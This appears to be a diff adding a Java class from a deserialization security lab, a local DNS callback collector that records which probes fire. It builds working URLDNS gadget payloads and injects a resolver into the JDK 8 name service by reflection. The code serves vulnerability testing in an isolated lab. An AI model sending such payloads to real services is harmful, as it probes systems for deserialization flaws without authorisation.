@@ -0,0 +1,599 @@
+package org.su18.serialize.lab;
+
+import sun.net.spi.nameservice.NameService;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.Closeable;
+import java.io.IOException;
+import java.io.ObjectInputStream;
+import java.io.ObjectOutputStream;
+import java.lang.reflect.Field;
+import java.net.DatagramPacket;
+import java.net.DatagramSocket;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.SocketAddress;
+import java.net.URL;
+import java.net.UnknownHostException;
+import java.nio.ByteBuffer;
+import java.nio.channels.DatagramChannel;
+import java.nio.charset.Charset;
+import java.security.SecureRandom;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicLong;
+import java.util.concurrent.atomic.AtomicReferenceArray;
+
+/**
+ * 进程内的 DNS 回连收集器，替代 URLDNS 系列链中写死的 dnslog.cn，隔离的实验环境中不需要外部服务，也不用再去翻解析日志
+ * <p>
+ * issue 为每个探测生成一个随机 token，域名为 token.zone；收到查询时取第一段 label 在 token 表中查找，O(1) 判断是哪个探测触发了。
+ * 全部查询按顺序写入固定大小的环形缓冲，写入位置由 AtomicLong 分配，满了之后覆盖最旧的记录，读取方不需要加锁
+ * <p>
+ * zone 下的 A 查询统一返回 127.0.0.1，TTL 为 0，保证每次解析都会重新查询；其他类型返回空应答，zone 之外的域名返回 REFUSED
+ * <p>
+ * 让当前 JVM 使用这个服务解析：sun.net.spi.nameservice.nameservers 属性不支持端口，因此 installNameService
+ * 在 JDK 8 的 InetAddress.nameServices 最前面插入一个只处理 zone 下域名的 NameService，真正向收集器发送 UDP 查询，
+ * 其他域名仍由原来的解析方式处理；其他进程可以通过系统 resolver 或 dnsmasq 的转发规则指向这里
+ * <p>
+ * 用法：java DnsCollector [端口] [zone]，生成几个探测，反序列化其中一部分的 URLDNS 数据，打印触发结果
+ *
+ * @author su18
+ */
+public class DnsCollector implements Closeable {
+
+	private static final Charset ASCII = Charset.forName("US-ASCII");
+
+	private static final int TYPE_A = 1, CLASS_IN = 1;
+
+	private static final int NOERROR = 0, FORMERR = 1, REFUSED = 5;
+
+	private final String zone;
+
+	private final DatagramChannel channel;
+
+	private final AtomicReferenceArray<Query> ring;
+
+	private final int mask;
+
+	private final AtomicLong next = new AtomicLong();
+
+	private final Map<String, Probe> probes = new ConcurrentHashMap<String, Probe>();
+
+	private final SecureRandom random = new SecureRandom();
+
+	private final AsyncLog log = AsyncLog.getDefault();
+
+	private final Thread thread;
+
+	private volatile boolean closed;
+
+
+	/**
+	 * @param address  监听地址
+	 * @param zone     探测使用的域名后缀，例如 dnslog.lab
+	 * @param capacity 环形缓冲大小，向上取整为 2 的幂
+	 * @throws IOException 监听失败
+	 */
+	public DnsCollector(InetSocketAddress address, String zone, int capacity) throws IOException {
+		int size = Integer.highestOneBit(Math.max(2, capacity - 1)) << 1;
+		this.zone = normalize(zone);
+		this.ring = new AtomicReferenceArray<Query>(size);
+		this.mask = size - 1;
+		this.channel = DatagramChannel.open();
+		this.channel.socket().bind(address);
+		this.thread = new Thread(new Runnable() {
+			@Override
+			public void run() {
+				loop();
+			}
+		}, "dns-collector-" + getPort());
+		this.thread.setDaemon(true);
+	}
+
+	/**
+	 * 监听 127.0.0.1 上的随机端口
+	 */
+	public DnsCollector(String zone) throws IOException {
+		this(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), zone, 4096);
+	}
+
+	public static void main(String[] args) throws Exception {
+		int    port = args.length > 0 ? Integer.parseInt(args[0]) : 5353;
+		String zone = args.length > 1 ? args[1] : "dnslog.lab";
+
+		DnsCollector collector = new DnsCollector(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), port), zone, 4096).start();
+		if (!collector.installNameService()) {
+			System.err.println("* name service not installed, only JDK 8 is supported");
+		}
+
+		List<Probe> issued = new ArrayList<Probe>();
+		for (int i = 0; i < 5; i++) {
+			issued.add(collector.issue("probe-" + i));
+		}
+
+		// 只反序列化偶数编号的探测
+		for (int i = 0; i < issued.size(); i += 2) {
+			byte[]            data = urldns(issued.get(i).getHost());
+			ObjectInputStream ois  = new ObjectInputStream(new ByteArrayInputStream(data));
+			ois.readObject();
+			ois.close();
+		}
+
+		collector.await(issued.get(issued.size() - 1), 2000);
+		for (Probe probe : issued) {
+			System.out.println(probe);
+		}
+		System.out.println("fired: " + collector.getFired().size() + "/" + issued.size() + ", queries: " + collector.getQueryCount());
+		collector.close();
+	}
+
+	/**
+	 * 与 URLDNS 相同的数据：反序列化 HashMap 时计算 URL 的 hashCode，触发一次 DNS 查询
+	 */
+	private static byte[] urldns(String host) throws Exception {
+		HashMap<URL, Integer> hashMap = new HashMap<URL, Integer>();
+		URL                   url     = new URL("http://" + host);
+		Field                 f       = URL.class.getDeclaredField("hashCode");
+		f.setAccessible(true);
+		f.set(url, 0x01010101);
+		hashMap.put(url, 0);
+		f.set(url, -1);
+
+		ByteArrayOutputStream bos = new ByteArrayOutputStream();
+		ObjectOutputStream    oos = new ObjectOutputStream(bos);
+		oos.writeObject(hashMap);
+		oos.close();
+		return bos.toByteArray();
+	}
+
+	/**
+	 * 让当前 JVM 中 zone 下的域名通过这个收集器解析，只支持 JDK 8
+	 *
+	 * @return 是否安装成功
+	 */
+	@SuppressWarnings("unchecked")
+	public boolean installNameService() {
+		try {
+			Field field = InetAddress.class.getDeclaredField("nameServices");
+			field.setAccessible(true);
+			// 先触发一次解析，保证 InetAddress 已经初始化了 nameServices
+			InetAddress.getByName("127.0.0.1");
+			List<NameService> services = (List<NameService>) field.get(null);
+			synchronized (services) {
+				services.add(0, new CollectorNameService(zone, new InetSocketAddress(channel.socket().getLocalAddress(), getPort())));
+			}
+			return true;
+		} catch (Exception | LinkageError e) {
+			// JDK 9 之后没有 nameServices 字段，也没有 sun.net.spi.nameservice
+			return false;
+		}
+	}
+
+	public DnsCollector start() {
+		thread.start();
+		return this;
+	}
+
+	public int getPort() {
+		return channel.socket().getLocalPort();
+	}
+
+	public String getZone() {
+		return zone;
+	}
+
+	/**
+	 * 生成一个新的探测
+	 *
+	 * @param label 说明，例如链名称
+	 * @return 返回探测，getHost() 为放入 payload 的域名
+	 */
+	public Probe issue(String label) {
+		for (; ; ) {
+			byte[] bytes = new byte[6];
+			random.nextBytes(bytes);
+			StringBuilder token = new StringBuilder("p");
+			for (byte b : bytes) {
+				token.append(Character.forDigit((b >> 4) & 0xf, 16)).append(Character.forDigit(b & 0xf, 16));
+			}
+			Probe probe = new Probe(token.toString(), token + "." + zone, label);
+			if (probes.put(probe.token, probe) == null) {
+				return probe;
+			}
+		}
+	}
+
+	public Probe getProbe(String token) {
+		return probes.get(token);
+	}
+
+	/**
+	 * 已经触发过的探测
+	 */
+	public List<Probe> getFired() {
+		List<Probe> list = new ArrayList<Probe>();
+		for (Probe probe : probes.values()) {
+			if (probe.isFired()) {
+				list.add(probe);
+			}
+		}
+		return list;
+	}
+
+	/**
+	 * 等待探测触发
+	 *
+	 * @param probe   探测
+	 * @param timeout 超时时间（毫秒）
+	 * @return 是否已触发
+	 * @throws InterruptedException 中断异常
+	 */
+	public boolean await(Probe probe, long timeout) throws InterruptedException {
+		synchronized (probe) {
+			long deadline = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(timeout);
+			while (!probe.isFired()) {
+				long wait = TimeUnit.NANOSECONDS.toMillis(deadline - System.nanoTime());
+				if (wait <= 0) {
+					return false;
+				}
+				probe.wait(wait);
+			}
+			return true;
+		}
+	}
+
+	/**
+	 * 收到的查询总数，包括已经被覆盖的
+	 */
+	public long getQueryCount() {
+		return next.get();
+	}
+
+	/**
+	 * 最近的查询，按时间顺序
+	 *
+	 * @param limit 最多返回的条数
+	 */
+	public List<Query> getRecent(int limit) {
+		long        end   = next.get();
+		long        start = Math.max(0, end - Math.min(limit, ring.length()));
+		List<Query> list  = new ArrayList<Query>();
+		for (long seq = start; seq < end; seq++) {
+			Query query = ring.get((int) (seq & mask));
+			// 读取期间被覆盖或者尚未写入的位置跳过
+			if (query != null && query.seq == seq) {
+				list.add(query);
+			}
+		}
+		return list;
+	}
+
+	/**
+	 * 单个包接收、解析或者应答失败时只丢弃这个包，只有 close 之后才退出
+	 */
+	private void loop() {
+		ByteBuffer buffer = ByteBuffer.allocate(512);
+		while (!closed) {
+			SocketAddress remote = null;
+			try {
+				buffer.clear();
+				remote = channel.receive(buffer);
+				buffer.flip();
+				ByteBuffer response = handle(buffer, remote);
+				if (response != null) {
+					channel.send(response, remote);
+				}
+			} catch (IOException | RuntimeException e) {
+				if (closed || !channel.isOpen()) {
+					break;
+				}
+				if (log.isEnabled()) {
+					log.log("dns.error", "remote", remote, "error", e);
+				}
+			}
+		}
+	}
+
+	/**
+	 * 解析查询，记录并生成应答
+	 */
+	private ByteBuffer handle(ByteBuffer request, SocketAddress remote) {
+		if (request.remaining() < 12) {
+			return null;
+		}
+		int id      = request.getShort(0) & 0xffff;
+		int flags   = request.getShort(2) & 0xffff;
+		int qdcount = request.getShort(4) & 0xffff;
+		if ((flags & 0x8000) != 0) {
+			// 不是查询
+			return null;
+		}
+
+		request.position(12);
+		String name = qdcount == 1 ? readName(request) : null;
+		if (name == null || request.remaining() < 4) {
+			return header(id, flags, FORMERR, 0, 0);
+		}
+		int type = request.getShort() & 0xffff;
+		request.getShort();
+		int questionEnd = request.position();
+
+		name = normalize(name);
+		long  seq   = next.getAndIncrement();
+		Probe probe = match(name);
+		ring.set((int) (seq & mask), new Query(seq, System.currentTimeMillis(), name, type, remote, probe));
+		if (probe != null) {
+			probe.fire();
+		}
+		if (log.isEnabled()) {
+			log.log("dns", "name", name, "type", type, "remote", remote, "probe", probe == null ? null : probe.label);
+		}
+
+		boolean inZone = name.equals(zone) || name.endsWith("." + zone);
+		boolean answer = inZone && type == TYPE_A;
+		ByteBuffer response = header(id, flags, inZone ? NOERROR : REFUSED, 1, answer ? 1 : 0);
+		// 原样复制问题部分
+		response.put(request.array(), 12, questionEnd - 12);
+		if (answer) {
+			response.putShort((short) 0xc00c).putShort((short) TYPE_A).putShort((short) CLASS_IN).putInt(0).putShort((short) 4);
+			response.put(new byte[]{127, 0, 0, 1});
+		}
+		response.flip();
+		return response;
+	}
+
+	/**
+	 * 取第一段 label 作为 token 查表
+	 */
+	private Probe match(String name) {
+		int dot = name.indexOf('.');
+		return probes.get(dot < 0 ? name : name.substring(0, dot));
+	}
+
+	private static ByteBuffer header(int id, int requestFlags, int rcode, int qdcount, int ancount) {
+		ByteBuffer response = ByteBuffer.allocate(512);
+		// QR、AA，保留请求的 opcode 和 RD
+		int flags = 0x8000 | 0x0400 | (requestFlags & 0x7900) | rcode;
+		response.putShort((short) id).putShort((short) flags).putShort((short) qdcount).putShort((short) ancount);
+		response.putShort((short) 0).putShort((short) 0);
+		if (qdcount == 0) {
+			response.flip();
+		}
+		return response;
+	}
+
+	/**
+	 * 读取问题中的域名，不支持压缩指针
+	 */
+	private static String readName(ByteBuffer buffer) {
+		StringBuilder name = new StringBuilder();
+		while (buffer.hasRemaining()) {
+			int length = buffer.get() & 0xff;
+			if (length == 0) {
+				return name.toString();
+			}
+			if (length > 63 || buffer.remaining() < length) {
+				return null;
+			}
+			if (name.length() > 0) {
+				name.append('.');
+			}
+			name.append(new String(buffer.array(), buffer.position(), length, ASCII));
+			buffer.position(buffer.position() + length);
+		}
+		return null;
+	}
+
+	private static String normalize(String name) {
+		name = name.toLowerCase();
+		return name.endsWith(".") ? name.substring(0, name.length() - 1) : name;
+	}
+
+	@Override
+	public void close() {
+		closed = true;
+		try {
+			channel.close();
+		} catch (IOException ignored) {
+		}
+		try {
+			thread.join(TimeUnit.SECONDS.toMillis(5));
+		} catch (InterruptedException e) {
+			Thread.currentThread().interrupt();
+		}
+	}
+
+	/**
+	 * 只解析 zone 下的域名，向收集器发送 A 查询，其余域名抛出 UnknownHostException 交给下一个 NameService
+	 */
+	private static final class CollectorNameService implements NameService {
+
+		private final String zone;
+
+		private final InetSocketAddress server;
+
+		private final SecureRandom random = new SecureRandom();
+
+		CollectorNameService(String zone, InetSocketAddress server) {
+			this.zone = zone;
+			this.server = server;
+		}
+
+		@Override
+		public InetAddress[] lookupAllHostAddr(String host) throws UnknownHostException {
+			String name = normalize(host);
+			if (!name.equals(zone) && !name.endsWith("." + zone)) {
+				throw new UnknownHostException(host);
+			}
+
+			ByteBuffer query = ByteBuffer.allocate(512);
+			query.putShort((short) random.nextInt()).putShort((short) 0x0100).putShort((short) 1);
+			query.putShort((short) 0).putShort((short) 0).putShort((short) 0);
+			for (String label : name.split("\\.")) {
+				byte[] bytes = label.getBytes(ASCII);
+				query.put((byte) bytes.length).put(bytes);
+			}
+			query.put((byte) 0).putShort((short) TYPE_A).putShort((short) CLASS_IN);
+
+			DatagramSocket socket = null;
+			try {
+				socket = new DatagramSocket();
+				socket.setSoTimeout(2000);
+				socket.send(new DatagramPacket(query.array(), query.position(), server));
+				DatagramPacket packet = new DatagramPacket(new byte[512], 512);
+				socket.receive(packet);
+
+				ByteBuffer response = ByteBuffer.wrap(packet.getData(), 0, packet.getLength());
+				if ((response.getShort(2) & 0xf) != NOERROR || response.getShort(6) == 0) {
+					throw new UnknownHostException(host);
+				}
+				// 跳过问题，应答中的名称是压缩指针
+				response.position(query.position() + 2 + 2 + 2 + 4);
+				int    length = response.getShort() & 0xffff;
+				byte[] rdata  = new byte[length];
+				response.get(rdata);
+				return new InetAddress[]{InetAddress.getByAddress(host, rdata)};
+			} catch (UnknownHostException e) {
+				throw e;
+			} catch (IOException e) {
+				throw new UnknownHostException(host + ": " + e);
+			} finally {
+				if (socket != null) {
+					socket.close();
+				}
+			}
+		}
+
+		@Override
+		public String getHostByAddr(byte[] addr) throws UnknownHostException {
+			throw new UnknownHostException();
+		}
+	}
+
+	/**
+	 * 一个探测
+	 */
+	public static final class Probe {
+
+		private final String token;
+
+		private final String host;
+
+		private final String label;
+
+		private final AtomicLong hits = new AtomicLong();
+
+		private volatile long firstSeen;
+
+		Probe(String token, String host, String label) {
+			this.token = token;
+			this.host = host;
+			this.label = label;
+		}
+
+		void fire() {
+			if (hits.getAndIncrement() == 0) {
+				firstSeen = System.currentTimeMillis();
+				synchronized (this) {
+					notifyAll();
+				}
+			}
+		}
+
+		public String getToken() {
+			return token;
+		}
+
+		/**
+		 * 放入 payload 的域名
+		 */
+		public String getHost() {
+			return host;
+		}
+
+		public String getLabel() {
+			return label;
+		}
+
+		public boolean isFired() {
+			return hits.get() > 0;
+		}
+
+		public long getHits() {
+			return hits.get();
+		}
+
+		/**
+		 * 第一次收到查询的时间，未触发时为 0
+		 */
+		public long getFirstSeen() {
+			return firstSeen;
+		}
+
+		@Override
+		public String toString() {
+			return label + " " + host + (isFired() ? " fired, hits=" + getHits() : " not fired");
+		}
+	}
+
+	/**
+	 * 一条查询记录
+	 */
+	public static final class Query {
+
+		private final long seq;
+
+		private final long time;
+
+		private final String name;
+
+		private final int type;
+
+		private final SocketAddress remote;
+
+		private final Probe probe;
+
+		Query(long seq, long time, String name, int type, SocketAddress remote, Probe probe) {
+			this.seq = seq;
+			this.time = time;
+			this.name = name;
+			this.type = type;
+			this.remote = remote;
+			this.probe = probe;
+		}
+
+		public long getTime() {
+			return time;
+		}
+
+		public String getName() {
+			return name;
+		}
+
+		public int getType() {
+			return type;
+		}
+
+		public SocketAddress getRemote() {
+			return remote;
+		}
+
+		/**
+		 * 匹配到的探测，没有匹配时为 null
+		 */
+		public Probe getProbe() {
+			return probe;
+		}
+
+		@Override
+		public String toString() {
+			return name + " type=" + type + " from " + remote + (probe != null ? " probe=" + probe.label : "");
+		}
+	}
+}